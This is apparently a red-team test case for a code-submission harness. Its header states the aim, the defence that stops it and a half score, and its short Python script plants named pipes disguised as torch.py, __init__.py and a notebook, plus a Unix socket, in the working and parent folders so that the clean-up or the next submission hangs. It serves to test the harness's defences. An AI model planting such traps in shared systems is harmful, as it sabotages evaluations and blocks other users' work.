# Tries: to leave pipes, sockets and doors that block whoever opens them: the clean-up, or the next submission.
# Stopped by: the clean-up opens nothing but folders.
# Score: HALF
# Process: yes
import contextlib
import os
import socket

for folder in (".", ".."):
    for name in ("torch.py", "attention.ipynb", "attack-pipe", "__init__.py"):
        with contextlib.suppress(OSError):
            os.mkfifo(f"{folder}/{name}")
    with contextlib.suppress(OSError):
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(f"{folder}/attack-socket")
        listener.listen()
